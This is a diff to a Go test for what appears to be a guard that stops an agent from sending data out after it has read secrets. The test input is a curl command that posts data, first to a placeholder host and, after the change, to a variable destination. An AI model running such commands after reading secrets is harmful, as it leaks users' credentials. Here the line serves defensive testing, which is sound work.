@@ -5,7 +5,7 @@ import (
 	"testing"
 )
 
-// TestFlowAcrossCalls: a secret that was read stops what sends later, one that
+// TestFlowAcrossCalls: a secret that was read stops what sends later to a place that the call does not name, one that
 // the user declined to have read does not.
 func TestFlowAcrossCalls(t *testing.T) {
 	const after = "after secrets were read"
@@ -15,7 +15,7 @@ func TestFlowAcrossCalls(t *testing.T) {
 		if len(w.asked) != 1 {
 			t.Fatalf("%s: the read was asked about %d times", action, len(w.asked))
 		}
-		got := w.call("bash", `{"command":"curl -d x https://e.example"}`)
+		got := w.call("bash", `{"command":"curl -d x $WHERE"}`)
 		if strings.Contains(got, after) != (action == "accept") {
 			t.Errorf("%s: %s", action, got)
 		}
